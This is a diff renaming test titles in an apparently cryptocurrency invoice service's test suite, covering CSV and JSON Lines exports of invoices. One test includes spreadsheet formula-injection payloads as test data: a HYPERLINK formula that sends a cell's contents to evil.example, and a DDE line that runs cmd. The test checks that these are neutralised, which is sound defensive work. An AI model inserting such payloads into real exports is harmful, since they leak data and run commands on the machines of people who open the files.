@@ -29,7 +29,7 @@ function coinsFor(amount: string, rate: string): string {
   return formatCoins(coinAmount(fiat, per))
 }
 
-test('an unpaid invoice is a row with what the merchant gave, and empty cells for what no payment has told', async () => {
+test('an unpaid invoice is a row with the merchant’s fields, and empty payment cells', async () => {
   const given = {
     amount: 1234.5,
     currency: 'EUR',
@@ -59,7 +59,7 @@ test('an unpaid invoice is a row with what the merchant gave, and empty cells fo
   ])
 })
 
-test('what was not given is empty', async () => {
+test('missing fields are empty cells', async () => {
   const { uids, token } = await withInvoices('bare', [{}])
   const { text } = await request('/invoices.csv', { token })
   const created = new Date(clock.now()).toISOString()
@@ -149,7 +149,7 @@ test('a reversed invoice still shows its payment', async (t) => {
   })
 })
 
-test('when another transaction has paid in its place, the row has the txid of that one', async (t) => {
+test('after a replacement the row has the txid of the transaction that paid', async (t) => {
   const paying = await startPaying(t)
   const { invoice } = await paying.createInvoice()
   const { signed } = await paying.pay(invoice.uid, 'LTC')
@@ -160,7 +160,7 @@ test('when another transaction has paid in its place, the row has the txid of th
   assert.equal((await paying.getInvoice(invoice.uid)).invoice.payment?.txid, heir)
 })
 
-test('the rate is the one that the payment was judged by, whatever the prices are now', async (t) => {
+test('the rate is the one that the payment was verified with, whatever the current rates are', async (t) => {
   const before = await startService(t, { settings: { RATES: 'fixed:LTC/USD=100' }, clock })
   const { invoice } = await before.createInvoice()
   await before.pay(invoice.uid, 'LTC')
@@ -181,7 +181,7 @@ test('the rate is the one that the payment was judged by, whatever the prices ar
   )
 })
 
-test('hostile texts are cells like others in the table, and unchanged in JSON Lines', async () => {
+test('hostile texts are quoted in CSV, and unchanged in JSON Lines', async () => {
   const hostile = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -221,7 +221,7 @@ test('hostile texts are cells like others in the table, and unchanged in JSON Li
   )
 })
 
-test('JSON Lines: each line is what the list shows', async () => {
+test('JSON Lines: each line equals the list’s item', async () => {
   const { token, uids } = await withInvoices('lines', [
     { memo: 'paid', metadata: { a: 'b' } },
     { memo: 'open', external_id: 'x' },
@@ -235,7 +235,7 @@ test('JSON Lines: each line is what the list shows', async () => {
   assert.deepEqual(await lines('', token), (await list('', token)).invoices)
 })
 
-test('without an invoice there are the names of the columns alone, and no line', async () => {
+test('without invoices CSV has only its header, and JSON Lines is empty', async () => {
   const { token } = await withInvoices('empty', [])
   assert.equal(readCsv((await request('/invoices.csv', { token })).text).length, 1)
   assert.equal((await request('/invoices.jsonl', { token })).text, '')
